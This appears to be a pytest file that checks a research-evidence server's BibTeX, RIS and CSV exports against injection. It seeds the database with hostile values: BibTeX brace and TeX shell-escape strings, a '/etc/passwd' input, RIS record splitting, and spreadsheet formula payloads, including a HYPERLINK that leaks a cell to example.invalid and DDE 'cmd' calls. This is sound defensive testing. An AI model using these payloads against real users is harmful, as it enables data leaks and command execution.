"""No export may carry an injection: hostile text in the database, exported by a real
`evidence serve`, comes out as data. BibTeX parses back (pybtex and bibtexparser) with one entry
per study and no extra field; RIS has one record per study; in every CSV (/-/csv/, Datasette's
.csv, streamed or not, of tables, canned queries and arbitrary SQL) a text cell a spreadsheet
would run as a formula starts with ``'`` (analysis/csv_cells.py) while numbers stay as they are.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3

import bibtexparser
import httpx
import pytest
import rispy
from pybtex.database import parse_string

from emg_evidence.analysis.csv_cells import safe_cell, safe_row
from emg_evidence.paths import DB_PATH
from serving import evidence_serve

#: (study id, field, hostile value)
STUDY_TEXT = [
    ("contreras2015", "title", "Brace {injection"),
    ("contreras2015", "authors", "Evil} J; Doe{ AB"),
    ("mccurdy2018", "title", "a } , evil = {x}, note = {y"),
    ("mccurdy2018", "journal", "@article{evil, title={x}}"),
    ("mccurdy2010", "title", "Line one\nER  - \nTY  - JOUR\nTI  - injected\r\nAU  - Evil, X\u2028second"),
    ("distefano2009", "title", "\\immediate\\write18{calc} \\input{/etc/passwd} ^^5cinput $x % y"),
    ("distefano2009", "authors", "Knuth\\def\\x{y} DE"),
    ("distefano2009", "doi", "10.1/\\input{x}"),
]
#: Condition labels as a spreadsheet reads them, and what the CSV must hold instead.
FORMULAS = {
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")': '\'=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
    "-0.5": "-0.5",  # a number written as text: a spreadsheet reads a number
    "=": "=",  # one character is no formula (finding.p_relation holds a lone '=')
    "a=b": "a=b",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(base URL, {condition id: label}) of a server over evidence.db with hostile text."""
    path = tmp_path_factory.mktemp("inject") / "evidence.db"
    shutil.copyfile(DB_PATH, path)
    with sqlite3.connect(path) as connection:
        for study, field, value in STUDY_TEXT:
            connection.execute(f"update study set {field} = ? where id = ?", (value, study))
        # Conditions with measurements, so that meta_extract and the canned queries show them too.
        ids = [
            row[0]
            for row in connection.execute(
                "select id from condition where id in (select condition_id from measurement) order by id limit ?",
                (len(FORMULAS),),
            )
        ]
        labels = dict(zip(ids, FORMULAS))
        for condition, label in labels.items():
            connection.execute("update condition set label = ? where id = ?", (label, condition))
    with evidence_serve(path) as base:
        yield base, labels


@pytest.fixture
def client(hostile):
    with httpx.Client(base_url=hostile[0], timeout=60, follow_redirects=True) as client:
        yield client


def study_ids() -> list[str]:
    with sqlite3.connect(DB_PATH) as connection:
        return [row[0] for row in connection.execute("select id from study order by id")]


def test_bibtex_reads_back_with_one_entry_per_study(client):
    response = client.get("/evidence/study.bib?_size=max")
    assert response.status_code == 200, response.text[:300]
    text = response.text
    entries = parse_string(text, "bibtex").entries  # pybtex reads its own output back
    assert sorted(entries) == study_ids()
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks, [b.error for b in library.failed_blocks]
    assert sorted(e.key for e in library.entries) == study_ids()
    fields = {f.key for e in library.entries for f in e.fields}
    assert "evil" not in fields, fields
    # The only notes are the export's own (what the readable copies lacked), never injected ones.
    notes = [f.value for e in library.entries for f in e.fields if f.key == "note"]
    assert all(n.startswith("Not found in a readable copy") for n in notes), notes
    # The braces are characters of the title, not grouping.
    assert entries["contreras2015"].fields["title"] == "Brace {\\textbraceleft}injection"
    assert "{\\textbraceright}" in entries["mccurdy2018"].fields["title"]
    assert [str(p) for p in entries["contreras2015"].persons["author"]] == [
        "Evil{\\textbraceright}, J.",
        "Doe{\\textbraceleft}, A. B.",
    ]
    # No TeX command, group or ^^ notation from stored text survives: only the escapes.
    stored = entries["distefano2009"]
    for value in (stored.fields["title"], stored.fields["doi"], str(stored.persons["author"][0])):
        commands = re.findall(r"\\([A-Za-z]+)", value)
        assert set(commands) <= {"textbackslash", "textbraceleft", "textbraceright", "textasciicircum"}, value
        assert "^^" not in value, value
    assert stored.fields["title"].count("{\\textbackslash}") == 3
    for path in ("/evidence/study/contreras2015.bib", "/evidence/study/mccurdy2018.bib"):
        single = client.get(path)
        assert single.status_code == 200 and len(parse_string(single.text, "bibtex").entries) == 1


def test_ris_has_one_record_per_study_and_no_line_breaks_in_values(client):
    text = client.get("/evidence/study.ris?_size=max").text
    records = rispy.loads(text)
    assert sorted(r["id"] for r in records) == study_ids()
    assert sum(line.startswith("TY  - ") for line in text.splitlines()) == len(study_ids())
    assert sum(line.startswith("ER  - ") for line in text.splitlines()) == len(study_ids())
    (record,) = [r for r in records if r["id"] == "mccurdy2010"]
    assert record["title"] == "Line one ER  -  TY  - JOUR TI  - injected AU  - Evil, X second"
    single = rispy.loads(client.get("/evidence/study/mccurdy2010.ris").text)
    assert [r["id"] for r in single] == ["mccurdy2010"]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


CSV_ROUTES = [
    "/-/csv/evidence/condition.csv",
    "/evidence/condition.csv?_size=max",
    "/evidence/condition.csv?_size=max&_dl=1",
    "/evidence/condition.csv?_stream=on",
    "/evidence/condition.csv?_stream=on&_labels=on",
    "/evidence.csv?sql=select+id,+study_id,+label+from+condition&_size=max",
]


@pytest.mark.parametrize("path", CSV_ROUTES)
def test_csv_text_cells_never_start_a_formula(hostile, client, path):
    _, labels = hostile
    response = client.get(path)
    assert response.status_code == 200, response.text[:300]
    rows = {int(row["id"]): row for row in read_csv(response.text)}
    for condition, label in labels.items():
        assert rows[condition]["label"] == FORMULAS[label], (condition, label)
    # Every other cell as stored, numbers included (pages stop at the row cap: the rows shown).
    with sqlite3.connect(DB_PATH) as connection:
        connection.row_factory = sqlite3.Row
        for row in connection.execute("select * from condition"):
            if row["id"] not in rows:
                continue
            for column in row.keys():
                if column in rows[row["id"]] and not (column == "label" and row["id"] in labels):
                    want = "" if row[column] is None else str(row[column])
                    assert rows[row["id"]][column] == want, (row["id"], column)


def test_canned_query_csv_neutralises_too(hostile, client):
    _, labels = hostile
    with sqlite3.connect(DB_PATH) as connection:
        (study,) = connection.execute(
            "select study_id from condition where id = ?", (next(iter(labels)),)
        ).fetchone()
    for path in (
        f"/-/csv/evidence/study_numbers.csv?study_id={study}",
        f"/evidence/study_numbers.csv?study_id={study}",
    ):
        text = client.get(path).text
        cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
        assert not any(c[:1] in "=+-@\t\r" and safe_cell(c) != c for c in cells), path
        assert any(c.startswith("'=HYPERLINK") for c in cells), path


def test_arbitrary_sql_cannot_write_a_formula_either(client):
    sql = "select '=1+2' as a, -1.5 as b, '-1.5' as c, 3 as d, '@x' as e, '+' as f, 'plain' as g"
    for path in ("/evidence.csv", "/-/csv/evidence/none.csv"):
        response = client.get(path, params={"sql": sql})
        if path.startswith("/-/"):
            assert response.status_code in (400, 404)  # /-/csv/ takes no SQL at all
            continue
        assert read_csv(response.text) == [
            {"a": "'=1+2", "b": "-1.5", "c": "-1.5", "d": "3", "e": "'@x", "f": "+", "g": "plain"}
        ]
    # The header is a row too: a formula as a column name is neutralised.
    header = client.get(
        "/evidence.csv", params={"sql": "select 1 as \"=cmd|' /C calc'!A0\""}
    ).text.splitlines()[0]
    assert header == "'=cmd|' /C calc'!A0"
    # JSON is not a spreadsheet format: values as stored.
    data = client.get("/evidence.json", params={"sql": sql, "_shape": "array"}).json()
    assert data == [{"a": "=1+2", "b": -1.5, "c": "-1.5", "d": 3, "e": "@x", "f": "+", "g": "plain"}]


@pytest.mark.parametrize(
    "value,expected",
    [
        *FORMULAS.items(),
        ("", ""),
        (None, None),
        (-3, -3),
        (-2.5, -2.5),
        ("+3", "+3"),
        ("-1.2e-3", "-1.2e-3"),
        ("-inf", "-inf"),
        ("-", "-"),
        ("-x", "'-x"),
        ("--1", "'--1"),
        ("=1", "'=1"),
        (" =1", " =1"),  # a leading space: spreadsheets read text
        (b"=1", b"=1"),  # bytes are not text cells
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    assert safe_row(["x", value, 1]) == ["x", expected, 1]
